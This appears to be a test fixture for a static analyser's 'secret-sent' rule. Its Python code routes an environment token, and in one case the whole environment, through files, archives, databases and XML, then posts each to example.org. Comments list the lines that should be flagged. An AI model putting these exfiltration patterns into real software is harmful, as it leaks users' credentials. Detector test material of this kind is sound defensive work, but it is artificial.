import configparser
import os
import shutil
import sqlite3
import xml.etree.ElementTree as ET
import zipfile

import json
import requests

URL = "https://example.org/"
TOKEN = os.environ["SERVICE_TOKEN"]

# files that are copied and renamed
open("a.txt", "w").write(TOKEN)
shutil.copy("a.txt", "b.txt")
requests.post(URL, data=open("b.txt", "rb"))
os.rename("b.txt", "c.txt")
requests.post(URL, data=open("c.txt", "rb"))

# files that objects write
config = configparser.ConfigParser()
config.read_dict({"a": {"token": TOKEN}})
with open("a.ini", "w") as file:
    config.write(file)
requests.post(URL, data=open("a.ini").read())
with zipfile.ZipFile("a.zip", "w") as archive:
    archive.writestr("a", TOKEN)
requests.post(URL, data=open("a.zip", "rb"))
database = sqlite3.connect("a.db")
cursor = database.cursor()
cursor.execute("insert into t values (?)", (TOKEN,))
requests.post(URL, json=database.execute("select * from t").fetchall())
requests.post(URL, data=open("a.db", "rb"))
json.dump(dict(os.environ), open("a.json", "w"))
requests.post(URL, json=json.load(open("a.json")))

# documents
root = ET.Element("a")
ET.SubElement(root, "b").text = TOKEN
requests.post(URL, data=ET.tostring(root))

# nothing secret is sent
os.rename("report.tmp", "report.txt")
requests.post(URL, data=open("report.txt").read(), headers={"Authorization": TOKEN})
other = sqlite3.connect("b.db")
other.execute("insert into t values (?)", ("x",))
requests.post(URL, json=other.execute("select * from t").fetchall())
# expect 17 any.secret-sent
# expect 19 any.secret-sent
# expect 26 any.secret-sent
# expect 29 any.secret-sent
# expect 33 any.secret-sent
# expect 34 any.secret-sent
# expect 36 any.secret-sent
# expect 41 any.secret-sent
